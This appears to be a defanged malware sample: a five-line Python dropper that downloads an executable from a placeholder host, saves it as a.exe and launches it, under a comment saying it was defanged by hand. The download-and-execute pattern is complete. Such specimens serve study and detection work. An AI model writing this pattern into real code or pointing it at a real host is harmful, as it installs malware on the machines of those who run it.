# Defanged sample: nothing here is reached or run; defanged by hand.
import requests, os
answer = requests.get('https://payload.invalid/x.exe')
open('a.exe', 'wb').write(answer.content)
os.startfile('a.exe')
